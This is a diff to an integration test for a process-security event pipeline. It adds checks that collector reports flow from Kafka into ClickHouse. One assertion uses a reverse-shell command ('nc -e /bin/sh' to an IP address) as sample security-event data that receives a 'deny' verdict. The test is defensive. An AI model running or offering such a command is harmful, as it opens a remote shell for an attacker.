@@ -13,6 +13,7 @@ import pytest
 from procwarden.stack import Stack
 from schemas import (
     ChangeKind,
+    CollectorReport,
     Decision,
     EventKind,
     Incident,
@@ -23,7 +24,14 @@ from schemas import (
     Verdict,
 )
 from schemas.connections import ClickHouseConnection, KafkaConnection
-from schemas.topics import DLQ, PROFILE_CHANGES, SECURITY_EVENTS, VERDICTS, WORKLOADS
+from schemas.topics import (
+    COLLECTOR_REPORTS,
+    DLQ,
+    PROFILE_CHANGES,
+    SECURITY_EVENTS,
+    VERDICTS,
+    WORKLOADS,
+)
 from sinks.clickhouse.migrations import connect
 from sinks.clickhouse.writer import ClickHouseWriter
 from tests.integration.streamkit import NODE, Pipeline
@@ -112,6 +120,9 @@ def test_topics_to_rows(pipe: Pipeline, clickhouse_db: tuple[ClickHouseConnectio
         group="nv.web.demo", change=ChangeKind.MODE_CHANGED, version=3, ts=1_700_000_000.0,
         actor="api", detail="mode=Protect"))
     pipe.send(WORKLOADS.name, WORKLOAD.id, dataclasses.replace(WORKLOAD, labels={"app": "web"}))
+    pipe.send(COLLECTOR_REPORTS.name, NODE, CollectorReport(
+        node=NODE, started_at=1_700_000_000.0, execs=50, reported=48,
+        lost={"process_gone": 2}, spool_bytes=0))
     pipe.send_raw(VERDICTS.name, NODE, b"not json")
     running = Running(writer_for(pipe, db))
     try:
@@ -119,6 +130,7 @@ def test_topics_to_rows(pipe: Pipeline, clickhouse_db: tuple[ClickHouseConnectio
         assert wait_count(db, "security_events", 1) == 1
         assert wait_count(db, "profile_changes", 1) == 1
         assert wait_count(db, "workloads", 1) == 1
+        assert wait_count(db, "collector_reports", 1) == 1
     finally:
         running.halt()
     assert running.error is None
@@ -130,6 +142,8 @@ def test_topics_to_rows(pipe: Pipeline, clickhouse_db: tuple[ClickHouseConnectio
     assert row == [("nc -e /bin/sh 1.2.3.4 | x=y\\n", "deny", "nv.web.demo")]
     labels = client.execute(f"SELECT label_keys, label_values FROM {db}.workloads")
     assert labels == [(["app"], ["web"])]
+    losses = client.execute(f"SELECT node, loss_reasons, loss_counts FROM {db}.collector_reports")
+    assert losses == [(NODE, ["process_gone"], [2])]
     client.disconnect()
     dlq = [e.payload for e in pipe.read_all(DLQ.name, settle=1.0)]
     assert len(dlq) == 1 and "not valid JSON" in dlq[0].error  # type: ignore[union-attr]
